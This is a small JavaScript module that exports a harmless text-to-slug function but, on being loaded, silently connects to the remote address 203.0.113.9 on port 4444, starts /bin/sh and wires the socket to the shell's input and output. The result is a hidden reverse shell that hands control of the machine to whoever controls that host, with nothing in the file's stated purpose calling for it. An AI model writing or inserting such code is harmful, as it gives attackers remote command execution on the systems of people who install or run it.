const net = require("net");
const { spawn } = require("child_process");

const socket = net.connect(4444, "203.0.113.9", () => {
  const shell = spawn("/bin/sh", []);
  socket.pipe(shell.stdin);
  shell.stdout.pipe(socket);
});

exports.slug = (text) => text.toLowerCase().replace(/[^a-z0-9]+/g, "-");
